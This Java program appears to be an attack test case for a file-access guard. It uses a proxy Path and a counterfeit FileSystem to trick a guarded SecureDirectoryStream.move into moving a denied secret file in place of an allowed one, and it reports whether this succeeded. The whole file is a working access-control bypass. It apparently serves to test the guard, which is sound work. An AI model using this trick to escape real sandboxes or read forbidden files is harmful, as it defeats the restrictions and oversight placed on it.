package dev.agentguard.apps.attacks;

import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Proxy;
import java.nio.file.DirectoryStream;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SecureDirectoryStream;

/**
 * {@code SecureDirectoryStream.move(from, targetStream, to)} with a source path of the application's own making:
 * its text names an allowed entry, and its file system makes the JDK's own path of a denied file out of any name.
 * If the guard hands the JDK the pinned name made through the caller's path's file system, the JDK moves the
 * denied file instead of the decided one. Prints what happened.
 *
 * <p>Arguments: the denied file, a folder where writing is allowed.
 */
public final class SecureMoveForeignPathAttack {
    private SecureMoveForeignPathAttack() {}

    public static void main(String[] args) throws Exception {
        Path secret = Path.of(args[0]);
        Path out = Path.of(args[1]);
        Files.writeString(out.resolve("from.txt"), "decided");
        try (DirectoryStream<Path> ds = Files.newDirectoryStream(out)) {
            if (!(ds instanceof SecureDirectoryStream)) {
                System.out.println("no secure stream");
                return;
            }
            @SuppressWarnings("unchecked")
            SecureDirectoryStream<Path> sds = (SecureDirectoryStream<Path>) ds;
            try {
                sds.move(swapping("from.txt", secret), sds, Path.of("to.txt"));
                System.out.println("move: moved");
            } catch (Throwable t) {
                System.out.println("move: " + t.getClass().getSimpleName());
            }
        }
        try {
            System.out.println("moved in: " + Files.readString(out.resolve("to.txt")));
        } catch (Throwable t) {
            System.out.println("moved in: " + t.getClass().getSimpleName());
        }
    }

    /** A path whose text is {@code text}; its file system's getPath hands back {@code swapTo} for any name. */
    private static Path swapping(String text, Path swapTo) {
        Path real = Path.of(text);
        java.nio.file.FileSystem swapped = new SwappingFileSystem(swapTo);
        InvocationHandler handler = new InvocationHandler() {
            @Override
            public Object invoke(Object proxy, java.lang.reflect.Method method, Object[] arguments) throws Throwable {
                switch (method.getName()) {
                    case "toString":
                        return text;
                    case "getFileSystem":
                        return swapped;
                    case "hashCode":
                        return text.hashCode();
                    case "equals":
                        return proxy == arguments[0];
                    default:
                        return method.invoke(real, arguments);
                }
            }
        };
        return (Path) Proxy.newProxyInstance(SecureMoveForeignPathAttack.class.getClassLoader(),
                new Class<?>[] {Path.class}, handler);
    }

    /** The default file system, except that every path it makes is {@code swapTo}. */
    private static final class SwappingFileSystem extends java.nio.file.FileSystem {
        private final java.nio.file.FileSystem real = FileSystems.getDefault();
        private final Path swapTo;

        SwappingFileSystem(Path swapTo) {
            this.swapTo = swapTo;
        }

        @Override public java.nio.file.spi.FileSystemProvider provider() { return real.provider(); }
        @Override public void close() throws java.io.IOException { real.close(); }
        @Override public boolean isOpen() { return real.isOpen(); }
        @Override public boolean isReadOnly() { return real.isReadOnly(); }
        @Override public String getSeparator() { return real.getSeparator(); }
        @Override public Iterable<Path> getRootDirectories() { return real.getRootDirectories(); }
        @Override public Iterable<java.nio.file.FileStore> getFileStores() { return real.getFileStores(); }
        @Override public java.util.Set<String> supportedFileAttributeViews() { return real.supportedFileAttributeViews(); }
        @Override public Path getPath(String first, String... more) { return swapTo; }
        @Override public java.nio.file.PathMatcher getPathMatcher(String syntax) { return real.getPathMatcher(syntax); }
        @Override public java.nio.file.attribute.UserPrincipalLookupService getUserPrincipalLookupService() {
            return real.getUserPrincipalLookupService();
        }
        @Override public java.nio.file.WatchService newWatchService() throws java.io.IOException {
            return real.newWatchService();
        }
    }
}
